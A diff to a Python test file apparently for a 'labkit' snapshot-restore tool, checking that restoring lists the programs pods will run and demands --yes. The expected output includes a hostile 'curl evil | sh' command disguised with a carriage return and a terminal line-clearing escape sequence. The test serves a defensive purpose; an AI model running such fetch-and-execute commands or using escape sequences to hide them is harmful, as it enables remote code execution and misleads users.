@@ -231,7 +231,9 @@ def hostile(one, tmp_path):
     with contextlib.closing(sqlite3.connect(tmp_path / name)) as connection, connection:
         for (kind, called), obj in objects.items():
             connection.execute("INSERT INTO objects VALUES (?, 'default', ?, ?)", (kind, called, json.dumps(obj)))
-    return altered(one, tmp_path / "hostile.labsnapshot", **{name: (tmp_path / name).read_bytes()})
+    fault = {"before": {"objects": {"Pod p": {"spec": {"containers": [{"image": "busybox", "command": ["true"]}]}}}}}
+    members = {name: (tmp_path / name).read_bytes(), "faults/run.json": json.dumps(fault).encode()}
+    return altered(one, tmp_path / "hostile.labsnapshot", **members)
 
 
 def test_restore_names_the_programs_of_the_pods_and_needs_a_yes(folder, hostile):
@@ -240,9 +242,10 @@ def test_restore_names_the_programs_of_the_pods_and_needs_a_yes(folder, hostile)
     assert done.returncode == 1
     assert done.stdout.splitlines() == [
         "The snapshot's pods run these programs on this machine, as your user:",
-        "  aws: sh -c 'curl evil | sh\\u000d'   (blue: default/d, blue: default/p)",
+        "  aws: sh -c 'curl evil | sh\\u000d\\u001b[2K'   (blue: default/d, blue: default/p)",
         "  busybox: the program of the image   (blue: default/d, blue: default/p)",
         "  busybox: id   (blue: default/d, blue: default/p)",
+        "  busybox: true   (the faults in run)",
     ]
     assert "Without a terminal to ask in, this needs --yes." in done.stderr
     assert f"labkit restore {hostile} --yes --force" in done.stderr
